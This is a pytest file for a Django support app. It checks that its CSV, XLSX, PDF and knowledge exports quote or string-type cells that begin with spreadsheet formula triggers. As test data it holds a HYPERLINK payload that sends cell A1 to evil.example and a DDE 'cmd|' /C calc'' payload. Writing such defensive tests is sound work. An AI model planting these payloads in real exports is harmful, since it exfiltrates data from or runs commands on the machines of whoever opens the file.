"""Attack: spreadsheet formulas planted in names and texts that later land in an export.

Every export SMRC writes (report figures and ticket rows as CSV and XLSX, the report PDF, the snippets and
products CSV) is fed text starting with each trigger of OWASP's CSV-injection list (also after leading blanks
and invisible characters), through the paths such text really takes: an operator's display name and username,
a brand's slug, snippet and product fields. Each test asserts the exact cells written: CSV cells carry one
leading quote, XLSX cells hold the text as a string (never a formula) with Excel's quote-prefix style, numbers
stay numbers, and the knowledge CSV reads back exactly as it was stored.
"""

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from brands.models import Product, Role, Snippet
from brands.services import knowledge
from smrc.spreadsheets import is_formula_like, neutralise, restore
from tests.factories import make_brand, make_member, make_product, make_snippet, make_ticket, make_user
from tests.helpers import pdf_text
from tickets.services import workflow

pytestmark = pytest.mark.django_db

#: what a spreadsheet may take as the start of a formula, and the forms that hide it behind something blank
PREFIXES = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\x00",
    "\uff1d", "\uff0b", "\uff0d", "\uff20",  # full-width = + - @
    " =", "  +", "\u00a0@", "\u200b=", "\ufeff-", "\u3000=",  # after a space, NBSP, zero-width, BOM, ideographic
]  # fmt: skip
#: the triggers that survive how names and texts are stored (blank edges are stripped; PostgreSQL holds no NUL)
STORED = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u200b=", "\ufeff-"]
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"x")'


def _csv(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _get(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, url
    return response


def _text(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


def _xlsx(body: bytes):
    """(rows of cells, the raw sheet XML) of the first sheet."""
    book = load_workbook(io.BytesIO(body))
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    return list(book.active.iter_rows()), xml


def _assert_no_formula(rows, xml: str) -> None:
    assert "<f>" not in xml
    assert "<f " not in xml
    assert not re.search(r't="(f|e|str)"', xml)
    assert [c for row in rows for c in row if c.data_type not in ("s", "n")] == []


# --- the rule itself --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_trigger_is_quoted_once_and_restored(prefix):
    text = prefix + PAYLOAD
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "text",
    ["Halo Kak", "#N/A", '{"a": 1}', "1+1", "a=b", "", "'quoted", "  ok", "\u200bok", "https://x.example/?a=1"],
)
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_numbers_stay_numbers_and_quotes_typed_by_people_survive_the_round_trip():
    assert [neutralise(v) for v in (-3, -2.5, 0, None, True)] == [-3, -2.5, 0, None, True]
    # Someone really typed a quote before a formula: it gains one more, and reading back gives theirs.
    for typed in ("'=1+1", "''-5", "' @x"):
        assert neutralise(typed) == "'" + typed
        assert restore(neutralise(typed)) == typed
    assert is_formula_like("'=x")
    assert not is_formula_like("'x")


# --- report exports ---------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_report(cast):
    """Brand "-hostile" (a slug may start with a hyphen): one ticket per operator, each operator named with one
    trigger, and three more whose usernames start with the username-legal triggers @ + -."""
    brand = make_brand("-hostile", name="=Hostile Brand")
    names = {}
    for n, prefix in enumerate([*STORED, " =", "\t+", "\u00a0@", "\u3000-"]):
        user = make_user(f"op{n}", first_name=f"{prefix}{n}{PAYLOAD}")
        make_member(user, brand, Role.OPERATOR)
        ticket = make_ticket(brand, author_id=f"a{n}", handle=f"h{n}", text=f"pesan {n}")
        workflow.claim_ticket(ticket=ticket, user=user)
        names[user.get_full_name()] = ticket
    assignees = {}
    for n, username in enumerate(("@evil", "+6281234", "-1+1")):
        user = make_user(username)
        make_member(user, brand, Role.OPERATOR)
        ticket = make_ticket(brand, author_id=f"b{n}", handle=f"u{n}", text=f"lagi {n}")
        workflow.claim_ticket(ticket=ticket, user=user)
        assignees[username] = ticket
    today = timezone.localdate()
    query = f"?start={today - timedelta(days=1):%Y-%m-%d}&end={today + timedelta(days=1):%Y-%m-%d}"
    return brand, names, assignees, f"/reports/{brand.slug}/export/{query}"


def test_report_figures_csv_quotes_every_hostile_operator_name(cast, hostile_report):
    brand, names, assignees, url = hostile_report
    rows = _csv(_text(_get(_client(cast.admin), url + "&format=csv")))
    operator_rows = {r[1]: r[3] for r in rows if r[0] == "operator" and r[2] == "tickets"}
    # get_full_name() strips surrounding whitespace, so "\t=…" arrives as "=…": each is still quoted once.
    expected = {"'" + name: "1" for name in names} | {"'" + u: "1" for u in assignees}
    assert operator_rows == expected
    assert all(is_formula_like(name) for name in names)
    # Numbers are written as numbers: durations and counts never gain a quote.
    assert ["summary", "", "tickets", str(len(names) + 3)] in rows


def test_report_figures_xlsx_keeps_names_as_text_never_formulas(cast, hostile_report):
    brand, names, assignees, url = hostile_report
    rows, xml = _xlsx(_get(_client(cast.admin), url + "&format=xlsx").content)
    _assert_no_formula(rows, xml)
    tickets_cells = [
        (r[1].value, r[1].data_type, r[1].quotePrefix, r[3].value, r[3].data_type)
        for r in rows
        if r[0].value == "operator" and r[2].value == "tickets"
    ]
    # The exact text, typed as a string, shown as text by Excel's quote prefix; the count a number.
    assert sorted(tickets_cells) == sorted((name, "s", True, 1, "n") for name in [*names, *assignees])


def test_report_ticket_rows_csv_and_xlsx_quote_brand_slug_and_assignee(cast, hostile_report):
    brand, names, assignees, url = hostile_report
    client = _client(cast.admin)
    rows = _csv(_text(_get(client, url + "&format=csv&data=rows")))
    by_ref = {r[0]: r for r in rows[1:]}
    for username, ticket in assignees.items():
        row = by_ref[f"T-{ticket.pk}"]
        assert (row[1], row[5]) == ("'-hostile", "'" + username)
    # The durations column holds numbers as they are; a negative or empty one would not be quoted either.
    assert all(r[18] == "0" for r in rows[1:])
    sheet, xml = _xlsx(_get(client, url + "&format=xlsx&data=rows").content)
    _assert_no_formula(sheet, xml)
    cells = {r[0].value: r for r in sheet[1:]}
    for username, ticket in assignees.items():
        row = cells[f"T-{ticket.pk}"]
        assert (row[1].value, row[1].data_type, row[1].quotePrefix) == ("-hostile", "s", True)
        assert (row[5].value, row[5].data_type, row[5].quotePrefix) == (username, "s", True)
        assert (row[18].value, row[18].data_type) == (0, "n")


def test_report_pdf_prints_hostile_names_as_plain_text_without_links_or_scripts(cast, hostile_report):
    brand, names, assignees, url = hostile_report
    body = _get(_client(cast.admin), url + "&format=pdf").content
    assert body.startswith(b"%PDF-")
    # (fpdf2's own /OpenAction only sets the zoom; no action may run script, open a link or launch a file.)
    for marker in (b"/URI", b"/JavaScript", b"/JS", b"/Launch", b"/Annots", b"/SubmitForm"):
        assert marker not in body
    lines = pdf_text(body).splitlines()
    # The label is drawn as text, character for character (the font draws glyphs; pdf_text maps them back).
    assert "SLA report: =Hostile Brand" in lines
    # Long names wrap inside their table cell; each still starts a text string of its own.
    for start in ("=0", "+1", "-2", "@3"):
        assert any(line.startswith(start + "HYPERLINK") for line in lines), start
    assert "@evil" in lines


# --- knowledge CSV ----------------------------------------------------------------------------------------------


def test_snippets_csv_quotes_every_hostile_cell_and_imports_back_unchanged(cast):
    brand = cast.brand_a
    product = make_product(brand, "=Kuota Max")
    for n, prefix in enumerate([*STORED, "'="]):  # "'=": someone typed a quote before a formula themselves
        make_snippet(
            brand,
            title=f"{prefix}SUM(1+1) {n}",
            body=f"{prefix}cmd|' /C calc'!A0 {n}\n- satu\n=dua",
            tags=f"{prefix}tag{n}, ok",
            shortcut=f"s{n}",
            product=product,
        )
    make_snippet(brand, title="Nomor", body="Hubungi kami di WA ya", tags="ok", shortcut="nomor")
    fields = ("title", "body", "tags", "version")
    before = sorted(Snippet.objects.filter(brand=brand).values_list(*fields))

    body = _text(_get(_client(cast.supervisor), f"/knowledge/{brand.slug}/export/snippets/"))
    rows = _csv(body)
    assert rows[0] == ["shortcut", "title", "body", "language", "tone", "tags", "product", "status", "expires_at"]
    assert len(rows) == len(before) + 1
    for row in rows[1:]:
        snippet = Snippet.objects.get(brand=brand, shortcut=row[0])
        if snippet.shortcut == "nomor":
            assert row[1:3] + row[5:7] == ["Nomor", "Hubungi kami di WA ya", "ok", ""]
            continue
        # Only the start of a cell matters: the later lines of a body ("- satu", "=dua") stay as they are.
        assert row[1:3] + row[5:7] == [
            "'" + snippet.title,
            "'" + snippet.body,
            "'" + snippet.tags,
            "'=Kuota Max",
        ]

    # The same file imported again changes nothing: every quote the export added comes off, no more.
    result = knowledge.import_snippets_csv(brand=brand, user=cast.supervisor, text=body)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(before))
    assert sorted(Snippet.objects.filter(brand=brand).values_list(*fields)) == before


def test_products_csv_quotes_every_hostile_cell_and_imports_back_unchanged(cast):
    brand = cast.brand_a
    for n, prefix in enumerate(STORED):
        make_product(
            brand,
            f"{prefix}P{n}",
            category=f"{prefix}cat",
            faq=f"{prefix}faq {n}",
            competitor_notes=f"{prefix}note",
            specifications={"quota": f"{prefix}50 GB"},
        )
    fields = ("name", "category", "specifications", "faq", "competitor_notes")
    before = sorted(Product.objects.filter(brand=brand).values_list(*fields))
    body = _text(_get(_client(cast.supervisor), f"/knowledge/{brand.slug}/export/products/"))
    rows = _csv(body)
    assert rows[0] == list(fields)
    for row in rows[1:]:
        name = row[0]
        assert name.startswith("'")
        product = Product.objects.get(brand=brand, name=restore(name))
        assert row == [
            "'" + product.name,
            "'" + product.category,
            # A JSON object starts with "{": no quote needed, the formula text sits inside it.
            '{"quota": "' + product.specifications["quota"] + '"}',
            "'" + product.faq,
            "'" + product.competitor_notes,
        ]
    result = knowledge.import_products_csv(brand=brand, user=cast.supervisor, text=body)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(before))
    assert sorted(Product.objects.filter(brand=brand).values_list(*fields)) == before
